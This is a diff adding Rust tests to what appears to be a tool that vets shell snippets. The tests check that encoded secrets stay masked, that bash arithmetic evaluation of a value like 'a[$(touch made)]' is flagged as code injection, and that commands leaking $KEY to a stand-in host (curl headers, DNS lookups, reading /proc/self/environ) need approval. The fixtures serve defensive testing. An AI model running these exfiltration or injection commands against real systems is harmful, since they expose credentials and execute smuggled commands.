@@ -353,6 +353,111 @@ fn a_secret_is_shown_in_no_form() {
     }
 }
 
+/// Programs that write a secret in another way, each with what must be seen.
+const WRITERS: &[(&str, &str)] = &[
+    (
+        "printf %s \"$KEY\" | python3 -c 'import sys,json; print(json.dumps(json.dumps(sys.stdin.read())))'",
+        "\"\\\"***\\\"\"",
+    ),
+    ("printf %s \"$KEY\" | python3 -c 'import sys,urllib.parse; print(urllib.parse.quote(sys.stdin.read()))'", "***"),
+    (
+        "printf %s \"$KEY\" | python3 -c 'import sys,urllib.parse; print(urllib.parse.quote(sys.stdin.read()).lower())'",
+        "***",
+    ),
+    ("printf %s \"$KEY\" | python3 -c 'import sys,shlex; print(shlex.quote(sys.stdin.read()))'", "'***'"),
+    ("printf '%q\\n' \"$KEY\"", "***"),
+    ("echo \"${KEY@Q}\"", "'***'"),
+    ("declare -p KEY | cut -d = -f 2-", "\"***\""),
+    ("printf %s \"$KEY\" | base32 -w 0", "***"),
+    ("printf %s \"$KEY\" | base64 -w 0 | base64", "***"),
+    ("printf %s \"$KEY\" | base64 | base64", "***"),
+    ("printf %s \"xy $KEY\" | base64 -w 20", "eHkg***"),
+    ("printf %s \"$KEY\" | od -An -tx1", "***"),
+    ("printf %s \"$KEY\" | od -tx1 | head -n 3", "0000000 ***"),
+    ("printf %s \"$KEY\" | python3 -c 'import sys; print(sys.stdin.buffer.read().hex(\":\"))'", "***"),
+];
+
+#[test]
+fn a_secret_is_covered_however_a_program_writes_it() {
+    let page: String = WRITERS
+        .iter()
+        .enumerate()
+        .map(|(at, (script, _))| fence(&format!("check=read name=w{at} secrets=KEY"), script))
+        .collect();
+    let variables = [("KEY", "tops3cret/of the \"house\", $5 it's")];
+    let said = Repo::with(&page).approved(&["--allow-secret", "KEY"], &variables);
+    for (at, (script, seen)) in WRITERS.iter().enumerate() {
+        let output = said.check(&format!("w{at}"))["output"].as_str().expect("it is text").to_owned();
+        let output = output.trim().trim_end_matches('=');
+        assert!(output.starts_with(seen) && output.len() <= seen.len() + 6, "{script}: {output}");
+    }
+}
+
+#[test]
+fn a_value_that_is_evaluated_may_be_a_command() {
+    let scripts = [
+        ("compare", "[[ 'a[$(touch made)]' -eq 0 ]]"),
+        ("look-for", "[[ -v 'a[$(touch made)]' ]]"),
+        ("test", "x=$(cat value); test -v \"$x\""),
+        ("print", "x=$(cat value); printf -v \"$x\" y"),
+        ("count", "x=$(cat value); (( x ))"),
+        ("let", "x=$(cat value); let x"),
+        ("expand", "x=$(cat value); echo $((x))"),
+        ("declare", "x=$(cat value); declare -i y=$x"),
+        ("slice", "x=$(cat value); z=abc; echo ${z:x:1}"),
+        ("split", "x=$(cat value); [ $x -eq 0 ]"),
+    ];
+    let mut page: String =
+        scripts.iter().map(|(name, script)| fence(&format!("check=read name={name}"), script)).collect();
+    page.push_str(&fence(
+        "check=read name=plain",
+        "x=$(cat value); [[ -n $x && $x != b* ]] && [ \"$x\" != c ] && echo $((1 + 2))",
+    ));
+    let repo = Repo::with(&page);
+    repo.write("value", "a[$(touch made)]\n");
+    let said = repo.run(&["check", "--format", "json"]);
+    for (name, _) in scripts {
+        assert_eq!(said.status(name), "needs-approval", "{name}");
+        assert_eq!(said.check(name)["effect"], "write", "{name}");
+    }
+    assert_eq!(said.status("plain"), "passed", "{}", said.out);
+}
+
+#[test]
+fn a_secret_is_told_to_another_machine_only_with_consent() {
+    let reads = [
+        ("header", "curl -s -H \"Authorization: Bearer $KEY\" https://shop.invalid"),
+        ("name", "dig \"$KEY.shop.invalid\""),
+        ("host", "host \"$KEY.shop.invalid\""),
+        ("look-up", "nslookup \"$(printenv KEY).shop.invalid\""),
+        ("login", "git ls-remote \"https://$KEY@shop.invalid/x\""),
+        ("piped", "printenv KEY | curl -s -H @- https://shop.invalid"),
+        ("environment", "dig -f /proc/self/environ"),
+    ];
+    let mut page: String = reads
+        .iter()
+        .map(|(name, script)| fence(&format!("check=read name={name} net=true secrets=KEY"), script))
+        .collect();
+    page.push_str(&fence(
+        "check=read name=itself net=true secrets=KEY exit=any",
+        "git ls-remote ./nowhere 2>&1 | head -n 0",
+    ));
+    page.push_str(&fence("check=read name=public net=true exit=any", "ls | git ls-remote ./nowhere 2>&1 | head -n 0"));
+    let repo = Repo::with(&page);
+    let said =
+        repo.run_with(&["check", "--format", "json", "--allow-net", "--allow-secret", "KEY"], &[("KEY", "tops3cret")]);
+    for (name, _) in reads {
+        assert_eq!(
+            (said.status(name).as_str(), &said.check(name)["effect"]),
+            ("needs-approval", &"write".into()),
+            "{name}"
+        );
+    }
+    let why = said.check("name")["why"].as_str().expect("there is one").to_owned();
+    assert!(why.ends_with("may tell a secret to another machine"), "{why}");
+    assert_eq!([said.status("itself"), said.status("public")], ["passed", "passed"], "{}", said.out);
+}
+
 #[test]
 fn colours_do_not_lift_the_cover_of_a_secret() {
     let token = token::token();
